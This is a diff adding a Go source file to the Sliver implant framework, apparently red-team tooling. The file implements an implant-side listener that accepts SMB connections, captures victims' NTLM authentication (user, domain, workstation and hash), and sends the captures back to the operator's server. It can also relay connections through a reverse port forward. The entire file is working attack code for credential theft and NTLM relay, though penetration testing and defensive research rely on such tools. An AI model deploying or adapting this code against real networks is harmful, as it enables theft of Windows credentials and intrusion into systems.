@@ -0,0 +1,244 @@
+package ntlm
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"errors"
+	"net"
+	"os"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	"github.com/bishopfox/sliver/implant/sliver/rportfwd"
+	"github.com/bishopfox/sliver/implant/sliver/tcpproxy"
+	"github.com/bishopfox/sliver/implant/sliver/transports"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+)
+
+const workgroup = "WORKGROUP"
+
+var (
+	// Listeners - The ntlm listeners of the implant
+	Listeners = listeners{
+		listeners: map[int]*Listener{},
+		mutex:     &sync.RWMutex{},
+	}
+
+	listenerID = 0
+
+	// ErrAlreadyListening - Another listener or reverse port forward uses the bind address
+	ErrAlreadyListening = errors.New("{{if .Config.Debug}}already listening on bind address{{end}}")
+)
+
+// Listener - Accepts smb connections and captures their ntlm authentication,
+// connections are relayed through a reverse port forward when there's a relay address
+type Listener struct {
+	connections uint64 // Must be first to be 64-bit aligned on 32-bit platforms
+	captured    uint64
+
+	ID           int
+	BindAddress  string
+	RelayAddress string
+	Local        bool
+	Allow        []string
+	RportfwdID   int
+
+	allowNets []*net.IPNet
+	proxy     *tcpproxy.Proxy
+	relay     *rportfwd.ChannelProxy
+	computer  string
+	capture   func(*sliverpb.NTLMCapture)
+}
+
+// HandleConn - Implements the tcpproxy target interface
+func (l *Listener) HandleConn(conn net.Conn) {
+	if l.relay != nil {
+		// The reverse port forward checks the allow list and counts rejections
+		atomic.AddUint64(&l.connections, 1)
+		l.relay.HandleConn(&sniffedConn{
+			Conn:    conn,
+			sniffer: &sniffer{captured: l.onCapture(conn.RemoteAddr())},
+		})
+		return
+	}
+	if !l.allowed(conn.RemoteAddr()) {
+		// {{if .Config.Debug}}
+		log.Printf("[ntlm] Rejected connection from %s", conn.RemoteAddr())
+		// {{end}}
+		conn.Close()
+		return
+	}
+	atomic.AddUint64(&l.connections, 1)
+	err := ServeSMB(conn, workgroup, l.computer, l.onCapture(conn.RemoteAddr()))
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("[ntlm] Connection from %s: %s", conn.RemoteAddr(), err)
+		// {{end}}
+	}
+}
+
+// onCapture - Sends the authentications of a connection from source
+func (l *Listener) onCapture(source net.Addr) func(*Authenticate, []byte) {
+	return func(auth *Authenticate, serverChallenge []byte) {
+		hashType, hash, err := Hash(auth, serverChallenge)
+		if err != nil {
+			// {{if .Config.Debug}}
+			log.Printf("[ntlm] No hash from %s: %s", source, err)
+			// {{end}}
+			return
+		}
+		atomic.AddUint64(&l.captured, 1)
+		l.capture(&sliverpb.NTLMCapture{
+			ListenerID:   uint32(l.ID),
+			Source:       source.String(),
+			User:         auth.User,
+			Domain:       auth.Domain,
+			Workstation:  auth.Workstation,
+			HashType:     hashType,
+			Hash:         hash,
+			RelayAddress: l.RelayAddress,
+			Timestamp:    time.Now().Unix(),
+		})
+	}
+}
+
+func (l *Listener) allowed(addr net.Addr) bool {
+	if len(l.allowNets) == 0 {
+		return true
+	}
+	tcpAddr, ok := addr.(*net.TCPAddr)
+	if !ok {
+		return false
+	}
+	for _, allowNet := range l.allowNets {
+		if allowNet.Contains(tcpAddr.IP) {
+			return true
+		}
+	}
+	return false
+}
+
+// Meta - The listener's protobuf representation
+func (l *Listener) Meta() *sliverpb.NTLMListener {
+	return &sliverpb.NTLMListener{
+		ID:           uint32(l.ID),
+		BindAddress:  l.BindAddress,
+		RelayAddress: l.RelayAddress,
+		Local:        l.Local,
+		Allow:        l.Allow,
+		RportfwdID:   uint32(l.RportfwdID),
+		Connections:  atomic.LoadUint64(&l.connections),
+		Captured:     atomic.LoadUint64(&l.captured),
+	}
+}
+
+type listeners struct {
+	listeners map[int]*Listener
+	mutex     *sync.RWMutex
+}
+
+// Start - Start a listener, captures are sent to the server over the connection
+func (f *listeners) Start(req *sliverpb.NTLMStartListenerReq, connection *transports.Connection, capture func(*sliverpb.NTLMCapture)) (*Listener, error) {
+	f.mutex.Lock()
+	defer f.mutex.Unlock()
+	for _, listener := range f.listeners {
+		if listener.BindAddress == req.BindAddress {
+			return nil, ErrAlreadyListening
+		}
+	}
+	for _, portfwd := range rportfwd.Portfwds.List() {
+		if portfwd.BindAddr == req.BindAddress {
+			return nil, ErrAlreadyListening
+		}
+	}
+	allowNets, err := rportfwd.ParseAllowList(req.Allow)
+	if err != nil {
+		return nil, err
+	}
+	computer, _ := os.Hostname()
+	listener := &Listener{
+		BindAddress:  req.BindAddress,
+		RelayAddress: req.RelayAddress,
+		Local:        req.Local,
+		Allow:        req.Allow,
+		allowNets:    allowNets,
+		proxy:        &tcpproxy.Proxy{},
+		computer:     strings.ToUpper(strings.Split(computer, ".")[0]),
+		capture:      capture,
+	}
+	if listener.RelayAddress != "" {
+		listener.relay = &rportfwd.ChannelProxy{
+			Conn:            connection,
+			RemoteAddr:      req.RelayAddress,
+			BindAddr:        req.BindAddress,
+			KeepAlivePeriod: 1000 * time.Second,
+			DialTimeout:     30 * time.Second,
+			Local:           req.Local,
+			Allow:           req.Allow,
+			AllowNets:       allowNets,
+		}
+	}
+	listener.proxy.AddRoute(req.BindAddress, listener)
+	// Start instead of Run so bind errors (445 is usually taken on windows) get back to the operator
+	err = listener.proxy.Start()
+	if err != nil {
+		return nil, err
+	}
+	if listener.relay != nil {
+		listener.RportfwdID = rportfwd.Portfwds.Add(listener.proxy, listener.relay).ID
+	}
+	listenerID++
+	listener.ID = listenerID
+	f.listeners[listener.ID] = listener
+	return listener, nil
+}
+
+// Stop - Stop a listener and its reverse port forward
+func (f *listeners) Stop(id int) *Listener {
+	f.mutex.Lock()
+	defer f.mutex.Unlock()
+	listener, ok := f.listeners[id]
+	if !ok {
+		return nil
+	}
+	if listener.relay != nil {
+		rportfwd.Portfwds.Remove(listener.RportfwdID)
+	} else {
+		listener.proxy.Close()
+	}
+	delete(f.listeners, id)
+	return listener
+}
+
+// List - All running listeners
+func (f *listeners) List() []*sliverpb.NTLMListener {
+	f.mutex.RLock()
+	defer f.mutex.RUnlock()
+	ntlmListeners := []*sliverpb.NTLMListener{}
+	for _, listener := range f.listeners {
+		ntlmListeners = append(ntlmListeners, listener.Meta())
+	}
+	return ntlmListeners
+}